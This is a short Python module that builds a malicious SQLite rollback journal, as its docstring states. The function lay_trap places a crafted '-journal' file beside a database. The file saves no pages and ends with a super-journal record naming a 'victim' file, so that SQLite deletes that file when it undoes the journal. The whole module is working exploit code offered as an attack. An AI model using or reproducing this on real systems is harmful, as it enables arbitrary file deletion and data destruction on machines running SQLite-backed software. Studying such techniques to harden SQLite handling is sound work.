"""A malicious rollback journal: SQLite deletes a file when it undoes the journal."""

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
PAGE = 4096


def lay_trap(record: Path, victim: Path) -> Path:
    """Put a journal next to a record; it changes no page and names the file ``victim``."""
    journal = Path(f"{record}-journal")
    journal.write_bytes(header(record.stat().st_size // PAGE) + naming(victim))
    return journal


def header(pages: int) -> bytes:
    """Return the start of a journal that saves none of the database's ``pages``."""
    return (MAGIC + struct.pack(">5I", 0, 0, pages, SECTOR, PAGE)).ljust(SECTOR, b"\0")


def naming(victim: Path) -> bytes:
    """Return the end of a journal: another file's name, its length and its checksum."""
    name = bytes(victim)
    checksum = sum(byte - 256 * (byte > 127) for byte in name) % 2**32
    numbers = struct.pack(">2I", len(name), checksum)
    return struct.pack(">I", 2**30 // PAGE + 1) + name + numbers + MAGIC
